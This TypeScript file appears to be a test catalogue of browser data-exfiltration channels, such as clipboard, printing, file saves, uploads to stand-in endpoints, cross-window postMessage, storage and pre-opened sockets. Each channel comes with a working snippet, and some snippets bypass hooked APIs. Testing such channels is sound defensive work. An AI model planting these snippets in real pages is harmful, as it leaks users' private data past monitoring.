import type { Channel } from './channel';

const copied = (name: string) =>
  `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', 'x'); e.preventDefault(); note('${name}'); }, { once: true })`;

/** Ways out that are no request: the clipboard, paper, files, and what was prepared before the member was on the page. */
export const HANDOVERS: readonly Channel[] = [
  {
    name: 'clipboard-write-text',
    layer: 'L3',
    alone: true,
    code: `navigator.clipboard.writeText('x').then(() => note('clipboard-write-text'), () => 0)`,
  },
  {
    name: 'clipboard-write',
    layer: 'L3',
    alone: true,
    code: `navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob(['x'], { type: 'text/plain' }) })]).then(() => note('clipboard-write'), () => 0)`,
  },
  {
    name: 'clipboard-copy-event',
    layer: 'L2',
    alone: true,
    code: `${copied('clipboard-copy-event')}; getSelection().selectAllChildren(document.body); document.execCommand('copy')`,
  },
  {
    name: 'clipboard-cut-event',
    layer: 'L2',
    alone: true,
    code: `document.addEventListener('cut', () => note('clipboard-cut-event'), { once: true }); { const t = element('<textarea>chart</textarea>'); t.select(); document.execCommand('cut'); }`,
  },
  {
    name: 'drag-out',
    layer: 'L2',
    code: `{ const p = element('<p draggable=true>chart</p>'); p.addEventListener('dragstart', () => note('drag-out')); p.dispatchEvent(new DragEvent('dragstart', { bubbles: true, dataTransfer: new DataTransfer() })); }`,
  },
  {
    name: 'save-picker',
    layer: 'L3',
    // Nobody is there to answer a dialog: the browser's own complaint about the argument proves that the call got through.
    code: `showSaveFilePicker({ types: 'x' }).catch((e) => e instanceof TypeError && note('save-picker'))`,
    missingIn: ['firefox'],
  },
  {
    name: 'directory-picker',
    layer: 'L3',
    code: `showDirectoryPicker({ startIn: 'nowhere' }).catch((e) => e instanceof TypeError && note('directory-picker'))`,
    missingIn: ['firefox'],
  },
  {
    name: 'web-share',
    layer: 'L3',
    code: `navigator.share({}).catch((e) => e instanceof TypeError && note('web-share'))`,
    missingIn: ['chromium', 'firefox'],
  },
  {
    name: 'print-script',
    layer: 'L3',
    alone: true,
    code: `addEventListener('beforeprint', () => note('print-script'), { once: true }); print()`,
    missingIn: ['firefox'],
  },
  {
    name: 'print-keys',
    layer: 'L2',
    alone: true,
    by: 'keys',
    code: `addEventListener('keydown', (e) => { if (e.ctrlKey && e.key === 'p') { e.preventDefault(); note('print-keys'); } })`,
  },
  { name: 'print-menu', layer: 'L4', alone: true, by: 'paper', code: `print_long()` },
  {
    name: 'blob-save',
    layer: 'L2',
    alone: true,
    // Nobody sees a saved file arrive; the portal's own handler of the click stands for it.
    code: `{ const a = element('<a download="chart.csv">Export list</a>'); a.href = URL.createObjectURL(new Blob(['x'])); a.addEventListener('click', () => note('blob-save')); a.click(); }`,
  },
  {
    name: 'upload-elsewhere',
    layer: 'L0',
    code: `{ const d = new FormData(); d.append('file', new File(['x'], 'chart.pdf')); pristine.fetch(out('upload-elsewhere'), { method: 'POST', body: d, mode: 'no-cors' }); }`,
  },
  {
    name: 'upload-form',
    layer: 'L0',
    alone: true,
    code: `{ const f = element('<form method=post enctype="multipart/form-data" action="' + out('upload-form') + '"><input type=file name=f></form>'); const d = new DataTransfer(); d.items.add(new File(['x'], 'chart.pdf')); f.firstElementChild.files = d.files; pristine.HTMLFormElement.prototype.submit.call(f); }`,
  },
  {
    name: 'post-message-frame',
    layer: 'L0',
    alone: true,
    before: `frame({ src: far('', '/listen'), name: 'kept' })`,
    code: `frames.kept.postMessage('post-message-frame', '*')`,
  },
  {
    name: 'post-message-window',
    layer: 'none',
    alone: true,
    isSlow: true,
    before: `window.kept = pristine.open.call(window, far('', '/listen'))`,
    code: `kept.postMessage('post-message-window', '*')`,
    title: 'A message to a window of another site that was opened before the member appeared',
    reason: 'A message between windows is no request, and the page kept the handle.',
  },
  {
    name: 'post-message-opener',
    layer: 'L3',
    alone: true,
    by: 'opener',
    query: 'go=opener',
    code: `0`,
  },
  {
    name: 'post-message-source',
    layer: 'none',
    alone: true,
    by: 'opener',
    query: 'go=source',
    code: `0`,
    title: 'An answer to a message from another window',
    reason: 'Whoever wrote to the page handed it a handle to answer with.',
  },
  {
    name: 'storage-other-tab',
    layer: 'L0',
    alone: true,
    query: 'other-tab',
    code: `localStorage.setItem('carry', out('storage-other-tab') + '#' + Math.random())`,
  },
  {
    name: 'websocket-before',
    layer: 'none',
    alone: true,
    isSlow: true,
    before: `window.kept = new WebSocket(far('', '/talk').replace('http', 'ws'))`,
    code: `kept.send('websocket-before')`,
    title: 'A WebSocket, WebRTC or WebTransport connection that was open before the member appeared',
    reason: 'Rules act on the opening of a connection, not on what travels in it.',
  },
  {
    name: 'named-window',
    layer: 'L0',
    alone: true,
    before: `window.kept = pristine.open.call(window, '/page?popup', 'kept')`,
    code: `element('<a target=kept href="' + out('named-window') + '">Next</a>').click()`,
  },
  {
    name: 'history-reload',
    layer: 'L0',
    alone: true,
    code: `history.pushState({}, '', '/export/ccda/hit/history-reload'); location.reload()`,
  },
  {
    name: 'webrtc-data-channel',
    layer: 'L3',
    alone: true,
    isSlow: true,
    code: `{ const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + ports.channel }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }`,
  },
  {
    name: 'pristine-print',
    layer: 'L4',
    alone: true,
    by: 'paper',
    code: `print_long(); document.querySelectorAll('style').forEach((s) => s.remove()); element('<style>@media print { * { visibility: visible !important } }</style>')`,
  },
];
